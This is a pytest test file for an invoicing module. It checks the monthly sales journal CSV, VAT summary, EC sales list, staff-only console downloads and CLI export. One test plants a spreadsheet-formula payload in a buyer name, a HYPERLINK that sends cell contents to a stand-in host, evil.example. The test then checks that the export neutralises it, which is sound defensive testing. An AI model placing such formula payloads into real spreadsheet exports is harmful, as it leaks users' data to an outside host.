"""The operator's bookkeeping views of a month: the sales journal CSV, the VAT summary and
the EC sales list, in the console and on the command line."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from reseller.core.db import unit_of_work
from tests.support.invoicing import at, buy
from tests.support.wallet import fund
from wallet.invoices import monthly, reports
from wallet.invoices import services as invoices
from wallet.invoices.periods import Month

BUYERS = {
    "fi": {"country": "FI", "vat_id": "FI24644919", "business_id": "2464491-9"},
    "se": {"country": "SE", "vat_id": "SE556036079301", "business_id": "556036-0793"},
    "uk": {"country": "GB", "vat_id": "GB980780684", "business_id": "01234567"},
}


@pytest.fixture
def month_of_sales(factory):
    """October invoices (issued 1 November) for a Finnish, a Swedish (reverse charge) and a
    UK buyer, and a credit note on the Finnish one (issued 3 November)."""
    from reseller.core.directory import reseller_profile
    from reseller.core.identity import vat_status
    from wallet.invoices.invoicing import buyer_of, invoicing_settings

    issued = {}
    for kind, fields in BUYERS.items():
        reseller = factory.reseller(company_name=f"Buyer {kind}", language="en", **fields)
        fund(reseller.id, "100.00")
        at("2026-10-05T09:00:00")
        buy(reseller, f"{kind}-a.fi", "10.00")
        buy(reseller, f"{kind}-b.fi", "20.00")
        with unit_of_work():
            issued[kind] = monthly.issue_month(
                reseller_id=reseller.id, month=Month.parse("2026-10"),
                buyer=buyer_of(reseller_profile(reseller.id)),
                vat_status=vat_status(reseller.country, reseller.vat_id),
                language="en", payment_mode="prepaid", settings=invoicing_settings(),
                now=at("2026-11-01T00:05:00"))
    with unit_of_work():
        invoices.issue_credit_note(reseller_id=issued["fi"].reseller_id,
                                   invoice_number=issued["fi"].number, reason="Wrong price",
                                   now=at("2026-11-03T10:00:00"), line_positions=[1])
    return issued


def test_vat_summary_and_ec_sales_list(month_of_sales):
    november = Month.parse("2026-11")
    summary = {(row["category"], row["rate"]): (row["net"], row["vat"])
               for row in reports.vat_summary(november)}
    # FI 30.00 at 25.5 % (7.65), less the credited 10.00 (2.55); SE reverse charge; UK O.
    assert summary[("S", Decimal("25.5"))] == (Decimal("20.00"), Decimal("5.10"))
    assert summary[("AE", Decimal("0"))] == (Decimal("30.00"), Decimal("0.00"))
    assert summary[("O", Decimal("0"))] == (Decimal("30.00"), Decimal("0.00"))
    assert reports.ec_sales_list(november) == [
        {"country": "SE", "vat_id": "SE556036079301", "net": Decimal("30.00")}]
    assert reports.vat_summary(Month.parse("2026-10")) == []


def test_the_journal_lists_every_document_of_the_month(month_of_sales):
    rows = list(csv.DictReader(io.StringIO(reports.journal_csv(Month.parse("2026-11")))))
    assert [row["kind"] for row in rows] == ["credit_note", "invoice", "invoice", "invoice"]
    note = rows[0]
    assert note["corrects"] == month_of_sales["fi"].number and note["total"] == "-12.55"
    se = next(row for row in rows if row["buyer_country"] == "SE")
    assert (se["vat_status"], se["buyer_vat_id"], se["period_start"]) == (
        "reverse_charge", "SE556036079301", "2026-10-01")


def test_console_reports_and_csv_for_staff_only(client, factory, month_of_sales):
    client.post("/login", data={"email": factory.operator().email,
                                "password": "operator password"})
    page = client.get("/console/invoices/reports?month=2026-11").get_data(as_text=True)
    assert "SE556036079301" in page and "4 invoices and credit notes" in page
    assert client.get("/console/invoices/reports?month=garbage").status_code == 200
    download = client.get("/console/invoices/journal-2026-11.csv")
    assert download.status_code == 200 and download.mimetype == "text/csv"
    assert month_of_sales["uk"].number in download.get_data(as_text=True)
    assert client.get("/console/invoices/journal-2026-13.csv").status_code == 404
    client.post("/logout")
    client.post("/login", data={"email": factory.user().email,
                                "password": "correct horse battery"})
    assert client.get("/console/invoices/journal-2026-11.csv").status_code == 403


def test_the_cli_exports_the_journal(app, month_of_sales, tmp_path):
    target = tmp_path / "journal.csv"
    result = app.test_cli_runner().invoke(
        args=["invoices", "export", "--month", "2026-11", "--output", str(target)])
    assert result.exit_code == 0, result.output
    assert month_of_sales["se"].number in target.read_text()
    bad = app.test_cli_runner().invoke(args=["invoices", "export", "--month", "nope"])
    assert bad.exit_code == 2 and "YYYY-MM" in bad.output


def test_a_buyer_name_a_spreadsheet_would_run_is_text_in_the_journal(factory):
    """A company name like ``=HYPERLINK(…)`` is an apostrophe-prefixed text cell (OWASP's
    CSV-injection advice); the amounts of a credit note still read as negative numbers."""
    from reseller.core.directory import reseller_profile
    from reseller.core.identity import vat_status
    from wallet.invoices.invoicing import buyer_of, invoicing_settings

    formula = '=HYPERLINK("https://evil.example/?"&A1,"Invoice")'
    reseller = factory.reseller(company_name=formula, language="en", **BUYERS["fi"])
    fund(reseller.id, "100.00")
    at("2026-10-05T09:00:00")
    buy(reseller, "kaava.fi", "10.00")
    with unit_of_work():
        invoice = monthly.issue_month(
            reseller_id=reseller.id, month=Month.parse("2026-10"),
            buyer=buyer_of(reseller_profile(reseller.id)),
            vat_status=vat_status(reseller.country, reseller.vat_id), language="en",
            payment_mode="prepaid", settings=invoicing_settings(),
            now=at("2026-11-01T00:05:00"))
    with unit_of_work():
        invoices.issue_credit_note(reseller_id=reseller.id, invoice_number=invoice.number,
                                   reason="Wrong price", now=at("2026-11-02T10:00:00"),
                                   line_positions=[1])
    rows = list(csv.DictReader(io.StringIO(reports.journal_csv(Month.parse("2026-11")))))
    assert {row["buyer"] for row in rows} == {"'" + formula}
    assert [row["total"] for row in rows] == ["-12.55", "12.55"]
    for row in rows:
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row.values())
